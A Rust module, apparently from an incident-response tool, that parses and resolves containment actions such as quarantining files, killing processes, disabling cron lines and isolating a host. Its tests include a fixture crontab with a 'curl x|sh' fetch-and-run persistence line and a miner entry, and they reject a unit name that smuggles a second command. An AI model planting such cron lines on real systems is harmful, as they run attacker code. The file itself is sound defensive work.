//! `--action KIND:WHAT`: its syntax ([`parse`]) and the exact [`Step`] it becomes on a
//! target ([`resolve`]): what is read there now (a file's SHA-256, a process's start time and
//! exe SHA-256, the text of cron lines) is what `--apply` checks again before each change.

use dossier_contain::ops;
use dossier_contain::process::procfs;
use dossier_contain::{Actuator, CronLine, Peer, Step};

/// Seconds after which an isolation removes itself unless confirmed (`--rollback-secs`).
pub const ISOLATE_ROLLBACK_SECS: u64 = 120;
/// The `--rollback-secs` accepted: long enough for a fresh SSH connection to confirm, short
/// enough that a responder locked out gets the host back within the hour.
pub const ROLLBACK_SECS: std::ops::RangeInclusive<u64> = 30..=3600;
/// Largest crontab read to plan a change of its lines.
const MAX_CRONTAB: u64 = 1 << 20;

/// One `--action`, as written.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Spec {
    Quarantine(String),
    Suspend(u32),
    Kill(u32),
    NeutralizeUnit(String),
    NeutralizeCron {
        path: String,
        lines: Vec<usize>,
    },
    /// Removed after this many seconds unless confirmed.
    Isolate {
        rollback_secs: u64,
    },
}

fn absolute(what: &str, p: &str) -> Result<String, String> {
    if !p.starts_with('/') || p.split('/').any(|c| c == "..") || p.contains('\0') {
        return Err(format!(
            "{what}: {p:?} is not an absolute path without `..`"
        ));
    }
    Ok(p.to_string())
}

fn pid(what: &str, s: &str) -> Result<u32, String> {
    match s.parse::<u32>() {
        Ok(p) if p > 1 => Ok(p),
        _ => Err(format!("{what}: {s:?} is not a process id (2 or more)")),
    }
}

/// A unit name systemd accepts (`name.service`, `x@y.timer`...).
fn unit(s: &str) -> Result<String, String> {
    let ok = !s.is_empty()
        && s.len() <= 256
        && !s.starts_with('-')
        && s.contains('.')
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b":_.@\\-".contains(&b));
    if ok {
        Ok(s.to_string())
    } else {
        Err(format!(
            "neutralize-unit: {s:?} is not a unit name with its type (`miner.service`)"
        ))
    }
}

/// Parses one `--action` value.
pub fn parse(s: &str) -> Result<Spec, String> {
    let (kind, what) = s.split_once(':').unwrap_or((s, ""));
    match kind {
        "quarantine" => Ok(Spec::Quarantine(absolute("quarantine", what)?)),
        "suspend" => Ok(Spec::Suspend(pid("suspend", what)?)),
        "kill" => Ok(Spec::Kill(pid("kill", what)?)),
        "neutralize-unit" => Ok(Spec::NeutralizeUnit(unit(what)?)),
        "neutralize-cron" => {
            let (path, lines) = what
                .rsplit_once(':')
                .ok_or_else(|| format!("neutralize-cron: {what:?} is not PATH:LINE[,LINE]"))?;
            let mut numbers = Vec::new();
            for l in lines.split(',') {
                match l.parse::<usize>() {
                    Ok(n) if n > 0 => numbers.push(n),
                    _ => {
                        return Err(format!(
                            "neutralize-cron: {l:?} is not a line number (1 or more)"
                        ));
                    }
                }
            }
            numbers.sort_unstable();
            numbers.dedup();
            Ok(Spec::NeutralizeCron {
                path: absolute("neutralize-cron", path)?,
                lines: numbers,
            })
        }
        "isolate" if what.is_empty() => Ok(Spec::Isolate {
            rollback_secs: ISOLATE_ROLLBACK_SECS,
        }),
        _ => Err(format!(
            "--action {s:?}: expected quarantine:PATH, suspend:PID, kill:PID, neutralize-unit:NAME, neutralize-cron:PATH:LINE[,LINE] or isolate"
        )),
    }
}

/// Whether `step` (recorded) changes what `spec` names: the same file, process, unit,
/// crontab lines, or the isolation.
pub fn same_target(spec: &Spec, step: &Step) -> bool {
    match (spec, step) {
        (Spec::Quarantine(p), Step::Quarantine { path, .. }) => p == path,
        (Spec::Suspend(p), Step::Suspend { pid, .. }) | (Spec::Kill(p), Step::Kill { pid, .. }) => {
            p == pid
        }
        (Spec::NeutralizeUnit(u), Step::NeutralizeUnit { unit, .. }) => u == unit,
        (Spec::NeutralizeCron { path: p, lines: l }, Step::NeutralizeCron { path, lines }) => {
            p == path && l.iter().eq(lines.iter().map(|c| &c.number))
        }
        (Spec::Isolate { .. }, Step::Isolate { .. }) => true,
        _ => false,
    }
}

/// Start time (field 22 of `/proc/PID/stat`, clock ticks since boot) and exe SHA-256 (when
/// it can be read) of a process on the target; an error when it has exited already (a zombie
/// or dead: nothing to `act` on).
fn process(a: &mut dyn Actuator, pid: u32, act: &str) -> anyhow::Result<(u64, Option<String>)> {
    let stat_path = format!("/proc/{pid}/stat");
    let stat =
        ops::read(a, &stat_path, 64 << 10).map_err(|e| anyhow::anyhow!("process {pid}: {e}"))?;
    // The command name (field 2) is in parentheses and may hold spaces or `)`.
    let now = procfs::parse_stat(&stat)
        .ok_or_else(|| anyhow::anyhow!("{stat_path}: unexpected contents"))?;
    if let Some(why) = now.exited(act) {
        anyhow::bail!("{why}");
    }
    let start_time = now.start_time;
    let exe = format!("/proc/{pid}/exe");
    let o = a.run(
        &["/usr/bin/sha256sum", "-b", "--", &exe],
        b"",
        ops::OP_TIMEOUT,
    )?;
    let sha = String::from_utf8_lossy(&o.stdout)
        .split_whitespace()
        .next()
        .filter(|h| o.success() && h.len() == 64)
        .map(str::to_string);
    Ok((start_time, sha))
}

/// The address and port of the SSH session dossier runs in (`SSH_CONNECTION`), kept
/// reachable by an isolation of this machine.
fn own_session() -> Vec<Peer> {
    let Ok(v) = std::env::var("SSH_CONNECTION") else {
        return Vec::new();
    };
    let f: Vec<&str> = v.split_whitespace().collect();
    match (f.first(), f.get(3).and_then(|p| p.parse().ok())) {
        (Some(addr), Some(port)) if addr.parse::<std::net::IpAddr>().is_ok() => vec![Peer {
            addr: (*addr).to_string(),
            port,
        }],
        _ => Vec::new(),
    }
}

/// The exact step `spec` is on the target now (its facts read through `a`).
pub fn resolve(spec: &Spec, a: &mut dyn Actuator) -> anyhow::Result<Step> {
    Ok(match spec {
        Spec::Quarantine(path) => Step::Quarantine {
            path: path.clone(),
            sha256: ops::sha256(a, path)?,
        },
        Spec::Suspend(pid) | Spec::Kill(pid) => {
            let kill = matches!(spec, Spec::Kill(_));
            let (start_time, exe_sha256) = process(a, *pid, if kill { "kill" } else { "freeze" })?;
            let pid = *pid;
            if kill {
                Step::Kill {
                    pid,
                    start_time,
                    exe_sha256,
                }
            } else {
                Step::Suspend {
                    pid,
                    start_time,
                    exe_sha256,
                }
            }
        }
        Spec::NeutralizeUnit(unit) => Step::NeutralizeUnit {
            unit: unit.clone(),
            runtime: false,
        },
        Spec::NeutralizeCron { path, lines } => {
            let data = ops::read(a, path, MAX_CRONTAB)?;
            let text = String::from_utf8_lossy(&data);
            let all: Vec<&str> = text.lines().collect();
            let mut out = Vec::new();
            for &n in lines {
                let t = all
                    .get(n - 1)
                    .ok_or_else(|| anyhow::anyhow!("{path} has {} lines, not {n}", all.len()))?;
                out.push(CronLine {
                    number: n,
                    text: (*t).to_string(),
                });
            }
            Step::NeutralizeCron {
                path: path.clone(),
                lines: out,
            }
        }
        Spec::Isolate { rollback_secs } => Step::Isolate {
            keep: own_session(),
            rollback_secs: *rollback_secs,
        },
    })
}

/// `--kill`: `steps` with a kill of the same process (PID, start time, exe hash) right after
/// each suspend that has none yet.
pub fn with_kills(steps: Vec<Step>) -> Vec<Step> {
    let mut out = Vec::with_capacity(steps.len() * 2);
    for s in &steps {
        out.push(s.clone());
        if let Step::Suspend {
            pid,
            start_time,
            exe_sha256,
        } = s
        {
            let kill = Step::Kill {
                pid: *pid,
                start_time: *start_time,
                exe_sha256: exe_sha256.clone(),
            };
            if !steps.contains(&kill) {
                out.push(kill);
            }
        }
    }
    out
}

/// `--rollback-secs`: sets the rollback of the `isolate` actions of `specs`; refused out of
/// [`ROLLBACK_SECS`] or without an `isolate` action.
pub fn set_rollback(specs: &mut [Spec], secs: Option<u64>) -> Result<(), String> {
    let Some(secs) = secs else {
        return Ok(());
    };
    if !ROLLBACK_SECS.contains(&secs) {
        return Err(format!(
            "--rollback-secs {secs}: give {} to {} seconds (an isolation removes itself after them unless a fresh connection confirms it)",
            ROLLBACK_SECS.start(),
            ROLLBACK_SECS.end()
        ));
    }
    let mut any = false;
    for s in specs.iter_mut() {
        if let Spec::Isolate { rollback_secs } = s {
            *rollback_secs = secs;
            any = true;
        }
    }
    if any {
        Ok(())
    } else {
        Err("--rollback-secs is for --action isolate".into())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dossier_contain::LocalActuator;

    #[test]
    fn parses_every_kind_and_refuses_bad_input() {
        assert_eq!(
            parse("quarantine:/tmp/x"),
            Ok(Spec::Quarantine("/tmp/x".into()))
        );
        assert_eq!(parse("suspend:42"), Ok(Spec::Suspend(42)));
        assert_eq!(parse("kill:42"), Ok(Spec::Kill(42)));
        assert_eq!(
            parse("neutralize-unit:miner.service"),
            Ok(Spec::NeutralizeUnit("miner.service".into()))
        );
        assert_eq!(
            parse("neutralize-cron:/etc/cron.d/x:3,1,3"),
            Ok(Spec::NeutralizeCron {
                path: "/etc/cron.d/x".into(),
                lines: vec![1, 3]
            })
        );
        assert_eq!(
            parse("isolate"),
            Ok(Spec::Isolate {
                rollback_secs: ISOLATE_ROLLBACK_SECS
            })
        );
        for bad in [
            "quarantine:rel/path",
            "quarantine:/a/../b",
            "suspend:1",
            "suspend:x",
            "neutralize-unit:miner",
            "neutralize-unit:a;b.service",
            "neutralize-cron:/etc/crontab",
            "neutralize-cron:/etc/crontab:0",
            "isolate:now",
            "reboot",
        ] {
            assert!(parse(bad).is_err(), "{bad} accepted");
        }
    }

    #[test]
    fn rollback_secs_are_checked_and_set_on_isolate_only() {
        let mut specs = vec![Spec::Suspend(7), parse("isolate").unwrap()];
        set_rollback(&mut specs, None).unwrap();
        assert_eq!(
            specs[1],
            Spec::Isolate {
                rollback_secs: ISOLATE_ROLLBACK_SECS
            }
        );
        for (secs, want) in [
            (30, true),
            (3600, true),
            (29, false),
            (3601, false),
            (0, false),
        ] {
            let mut s = specs.clone();
            let r = set_rollback(&mut s, Some(secs));
            assert_eq!(r.is_ok(), want, "{secs}: {r:?}");
            if want {
                assert_eq!(
                    s[1],
                    Spec::Isolate {
                        rollback_secs: secs
                    }
                );
                assert_eq!(s[0], Spec::Suspend(7));
            } else {
                let e = r.unwrap_err();
                assert!(
                    e.contains("give 30 to 3600 seconds") && e.lines().count() == 1,
                    "{e}"
                );
            }
        }
        let e = set_rollback(&mut [Spec::Suspend(7)], Some(60)).unwrap_err();
        assert_eq!(e, "--rollback-secs is for --action isolate");
        // The step resolved carries it (it is in the plan line and in the record).
        let a: &mut dyn Actuator = &mut LocalActuator::new();
        let Step::Isolate { rollback_secs, .. } =
            resolve(&Spec::Isolate { rollback_secs: 45 }, a).unwrap()
        else {
            panic!()
        };
        assert_eq!(rollback_secs, 45);
        let d = Step::Isolate {
            keep: vec![],
            rollback_secs: 45,
        }
        .action(&dossier_contain::Places::default())
        .describe();
        assert!(d.contains("removed after 45 s unless confirmed"), "{d}");
    }

    #[test]
    fn kill_follows_each_suspend_once() {
        let suspend = |pid| Step::Suspend {
            pid,
            start_time: u64::from(pid) * 10,
            exe_sha256: Some(format!("{pid:064}")),
        };
        let kill = |pid| Step::Kill {
            pid,
            start_time: u64::from(pid) * 10,
            exe_sha256: Some(format!("{pid:064}")),
        };
        let unit = Step::NeutralizeUnit {
            unit: "miner.service".into(),
            runtime: true,
        };
        let got = with_kills(vec![suspend(7), suspend(9), kill(9), unit.clone()]);
        assert_eq!(
            got,
            vec![suspend(7), kill(7), suspend(9), kill(9), unit.clone()]
        );
        assert_eq!(with_kills(vec![unit.clone()]), vec![unit]);
        // Each kill depends on its own suspend only.
        assert!(kill(7).depends_on(&suspend(7)) && !kill(7).depends_on(&suspend(9)));
    }

    #[test]
    fn resolves_a_process_a_file_and_cron_lines_on_this_machine() {
        let a: &mut dyn Actuator = &mut LocalActuator::new();
        let me = std::process::id();
        let Step::Suspend {
            pid,
            start_time,
            exe_sha256,
        } = resolve(&Spec::Suspend(me), a).unwrap()
        else {
            panic!()
        };
        assert_eq!(pid, me);
        assert!(start_time > 0);
        let exe = std::fs::read(std::env::current_exe().unwrap()).unwrap();
        let want: String = <sha2::Sha256 as sha2::Digest>::digest(&exe)
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        assert_eq!(exe_sha256.as_deref(), Some(want.as_str()));
        // A zombie (this test's child, exited and not reaped yet): nothing to freeze.
        let mut child = std::process::Command::new("/bin/true").spawn().unwrap();
        let zpid = child.id();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
        while procfs::stat_of(a, zpid).unwrap().unwrap().state != 'Z' {
            assert!(std::time::Instant::now() < deadline, "never a zombie");
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
        let e = resolve(&Spec::Suspend(zpid), a).unwrap_err().to_string();
        child.wait().unwrap();
        assert_eq!(
            e,
            format!("PID {zpid} is a zombie (exited, not reaped): nothing to freeze")
        );
        let d = tempfile::tempdir().unwrap();
        let f = d.path().join("crontab");
        std::fs::write(&f, "# m h\n@reboot /tmp/.x/miner\n*/5 * * * * curl x|sh\n").unwrap();
        let p = f.to_str().unwrap().to_string();
        let step = resolve(
            &Spec::NeutralizeCron {
                path: p.clone(),
                lines: vec![2, 3],
            },
            a,
        )
        .unwrap();
        let Step::NeutralizeCron { lines, .. } = step else {
            panic!()
        };
        assert_eq!(lines[0].text, "@reboot /tmp/.x/miner");
        assert_eq!(lines[1].number, 3);
        assert!(
            resolve(
                &Spec::NeutralizeCron {
                    path: p.clone(),
                    lines: vec![9]
                },
                a
            )
            .is_err()
        );
        let Step::Quarantine { sha256, .. } = resolve(&Spec::Quarantine(p), a).unwrap() else {
            panic!()
        };
        assert_eq!(sha256.len(), 64);
    }
}
